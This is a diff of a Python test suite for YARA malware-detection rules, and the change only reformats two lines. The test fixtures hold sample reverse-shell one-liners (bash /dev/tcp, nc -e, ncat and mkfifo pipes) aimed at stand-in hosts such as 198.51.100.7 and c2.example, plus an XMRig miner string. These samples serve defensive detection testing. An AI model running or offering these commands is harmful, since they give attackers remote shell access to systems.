@@ -26,7 +26,8 @@ HITS: dict[str, list[bytes]] = {
     "Miner_Xmrig_Program": [b"XMRig/6.21.0\0...donate-over-proxy\0randomx\0huge-pages-jit"],
     "Reverse_Shell_Dev_Tcp": [b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", b"exec 5<>/dev/tcp/c2.example/443"],
     "Reverse_Shell_Netcat": [
-        b"nc -nv 198.51.100.7 4444 -e /bin/sh", b"ncat\x00198.51.100.7\x009001\x00-e\x00sh", b"nc -e /bin/bash 198.51.100.7 99",
+        b"nc -nv 198.51.100.7 4444 -e /bin/sh", b"ncat\x00198.51.100.7\x009001\x00-e\x00sh",
+        b"nc -e /bin/bash 198.51.100.7 99",
         b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 1",
     ],
     "Reverse_Shell_Script": [
@@ -98,7 +99,9 @@ def test_no_rule_hits_the_benign(compiled: yara.Rules) -> None:
 def test_every_rule_says_what_it_means(compiled: yara.Rules) -> None:
     for rule in compiled:
         assert set(rule.meta) >= {"description", "technique", "severity"} and rule.meta["technique"].startswith("T1")
-        assert ("Credential" in rule.identifier or "Kubernetes" in rule.identifier) <= bool({"secret", "aws"} & set(rule.tags))
+        assert ("Credential" in rule.identifier or "Kubernetes" in rule.identifier) <= bool(
+            {"secret", "aws"} & set(rule.tags)
+        )
     assert load_rules([RULES]).monotone
 
 
